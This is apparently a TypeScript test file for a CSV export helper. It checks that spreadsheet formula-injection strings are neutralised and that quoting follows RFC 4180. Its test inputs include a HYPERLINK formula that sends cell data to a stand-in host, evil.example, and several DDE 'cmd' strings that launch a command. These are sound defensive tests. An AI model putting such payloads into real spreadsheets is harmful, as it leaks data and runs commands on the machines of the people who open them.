import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { csvDocument, neutraliseCell, safeCell } from './spreadsheet.ts';

describe('spreadsheet cells', () => {
  it('neutralises every text that a spreadsheet would run as a formula', () => {
    for (const attack of [
      '=HYPERLINK("http://evil.example/?d="&A2,"click")',
      '+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
    ]) {
      assert.equal(neutraliseCell(attack), `'${attack}`, JSON.stringify(attack));
    }
  });

  it('leaves ordinary text, numbers and empty cells as they are', () => {
    assert.equal(neutraliseCell('Virtanen, Äijä'), 'Virtanen, Äijä');
    assert.equal(neutraliseCell('a=b'), 'a=b');
    assert.equal(safeCell(-2), -2);
    assert.equal(safeCell(null), '');
  });

  it('writes headers and cells through the same rule, quoting as RFC 4180 says', () => {
    assert.equal(
      csvDocument(
        ['name', '=1+1'],
        [
          ['=cmd', -5],
          ['"quoted", name', null],
        ],
      ),
      '\ufeffname,\'=1+1\n\'=cmd,-5\n"""quoted"", name",\n',
    );
  });
});
